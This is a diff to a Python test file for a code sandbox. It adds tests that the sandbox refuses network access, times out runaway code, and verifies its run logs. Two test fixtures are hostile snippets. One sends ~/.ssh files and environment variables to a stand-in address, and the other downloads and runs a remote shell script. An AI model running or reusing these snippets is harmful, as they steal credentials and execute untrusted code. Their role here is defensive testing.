@@ -291,13 +291,15 @@ def test_the_account_names_what_was_refused(here: Path) -> None:
     ran = run(here, code, "--policy", "policy.toml", "--explain")
     assert (ran.returncode, ran.stdout) == (0, "well\n")
     lines = [line.rstrip() for line in ran.stderr.splitlines()]
-    assert lines[:4] == [
+    assert lines[:6] == [
+        "warning  tried to import socket: refused by the import policy",
         "ended    completed",
         "state    variables are as the snippet left them",
-        "refused  import_policy: socket",
+        "imports  socket (line 2): refused, socket -> refuse: the jail has no network",
+        "refused  import_policy: socket (line 2)",
         "         rule: socket -> refuse",
     ]
-    assert lines[4].startswith("         hint: the jail has no network.")
+    assert lines[6].startswith("         hint: the jail has no network.")
     assert any(line.startswith("tier     namespaces; 14 layers held: user_n") for line in lines)
     assert any(line.startswith("bill     ") for line in lines)
 
@@ -305,8 +307,75 @@ def test_the_account_names_what_was_refused(here: Path) -> None:
 def test_the_account_goes_beside_the_json(here: Path) -> None:
     ran = run(here, "while True: pass", "--timeout", "0.2", "--json", "--explain")
     assert ran.returncode == 124
-    assert isinstance(outcome_from_json(ran.stdout), LimitExceeded)
-    assert ran.stderr.startswith("ended    stopped: out of time")
+    outcome = outcome_from_json(ran.stdout)
+    assert isinstance(outcome, LimitExceeded)
+    assert outcome.verdict is not None
+    said = f"{outcome.verdict.severity}  {outcome.verdict.reason}\nended    stopped: out of time"
+    assert ran.stderr.startswith(said)
+
+
+SENDS = """\
+import os, urllib.request
+found = []
+for folder, _, names in os.walk(os.path.expanduser('~/.ssh')):
+    found += [open(os.path.join(folder, name)).read() for name in names]
+urllib.request.urlopen('http://203.0.113.10/x', data=repr((found, dict(os.environ))).encode())
+"""
+FETCHES = """\
+import subprocess, urllib.request
+urllib.request.urlretrieve('http://203.0.113.10/stage.sh', 'stage.sh')
+subprocess.run(['sh', 'stage.sh'])
+"""
+
+
+def test_a_snippet_that_sends_secrets_is_told_so_though_nothing_got_out(here: Path) -> None:
+    ran = run(here, SENDS, "--explain", "--keep-going")
+    first = " ".join(ran.stderr[ran.stderr.index("danger ") :].split()[:20])
+    assert first.startswith(
+        "danger tried to send credentials and its environment to http://203.0.113.10/x:"
+        " refused by the network namespace"
+    )
+
+
+def test_a_snippet_that_runs_a_download_is_told_so_though_nothing_came(here: Path) -> None:
+    ran = run(here, FETCHES, "--explain")
+    first = " ".join(ran.stderr[ran.stderr.index("danger ") :].split()[:18])
+    assert first.startswith(
+        "danger tried to download and run a script from http://203.0.113.10/stage.sh:"
+        " refused by the network namespace"
+    )
+
+
+def test_a_report_and_a_log_are_written_and_the_log_verified(here: Path) -> None:
+    for code in (FETCHES, "1 + 1"):
+        run(here, code, "--report", "report.md", "--trace", "runs.log")
+    assert "nothing was found in its source" in (here / "report.md").read_text()
+    ran = cellblock(here, "trace", "verify", "runs.log")
+    assert (ran.returncode, ran.stderr) == (0, "")
+    assert ran.stdout.startswith("runs.log: whole, ")
+    assert "of 2 runs" in ran.stdout
+    lines = (here / "runs.log").read_text().splitlines(keepends=True)
+    changed = "".join([lines[0].replace("snippet", "Snippet"), *lines[1:]])
+    (here / "changed.log").write_text(changed)
+    ran = cellblock(here, "trace", "verify", "changed.log")
+    assert (ran.returncode, ran.stderr) == (1, "changed.log: line 1: was changed\n")
+    ran = run(here, "1 + 1", "--trace", "changed.log")
+    assert ran.returncode == 125
+    assert "nothing was added" in ran.stderr
+    assert (here / "changed.log").read_text() == changed
+
+
+def test_keeping_going_softens_a_policy_that_ends_the_process(here: Path) -> None:
+    rules = '[[imports.rules]]\npattern = "socket"\naction = "kill"\n'
+    (here / "policy.toml").write_text(rules)
+    code = "import socket\nopen('/srv/next')"
+    ran = run(here, code, "--policy", "policy.toml", "--json", "--keep-going")
+    outcome = outcome_from_json(ran.stdout)
+    assert outcome.status == "raised"
+    assert {row.tried for row in outcome.attempts if not row.is_allowed} == {
+        "socket",
+        "/srv/next",
+    }
 
 
 # ---- check and doctor ---------------------------------------------------------------------------
